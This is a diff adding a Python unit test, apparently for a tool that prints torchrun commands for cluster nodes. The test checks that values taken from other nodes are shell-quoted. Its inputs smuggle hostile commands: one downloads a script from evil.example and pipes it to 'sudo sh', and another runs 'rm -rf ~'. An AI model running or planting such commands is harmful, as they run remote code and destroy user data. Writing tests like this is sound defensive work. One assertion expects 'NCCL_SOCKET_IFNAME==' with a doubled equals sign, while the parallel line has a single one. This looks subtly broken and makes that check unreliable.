@@ -66,3 +66,15 @@ def test_chosen_interfaces_skips_nodes_without_facts():
 
 def test_chosen_interfaces_tolerates_a_node_without_a_route():
     assert chosen_interfaces({"a": {"facts": {"names": {"route_to_master": None}}}}) == {}
+
+
+def test_values_from_other_nodes_are_shell_quoted_in_lines_to_paste():
+    evil = "eth0; curl -s http://evil.example/fix.sh | sudo sh #"
+    nodes = _nodes({"a": evil, "b": "ib0"})
+    results = [{"level": "pass"}]  # the JSON form a node rebuilds its lines from
+    lines = advice_lines(nodes, _view(["a", "b"]), _cfg(rdzv_id="x; rm -rf ~"), results)
+    a_line = lines[lines.index("# on a:") + 1]
+    argv = shlex.split(a_line)
+    assert argv[0] == f"NCCL_SOCKET_IFNAME=={evil}" and argv[1] == f"GLOO_SOCKET_IFNAME={evil}"
+    assert argv[2] == "torchrun" and "sudo" not in argv[3:]
+    assert argv[argv.index("--rdzv-id") + 1] == "x; rm -rf ~"
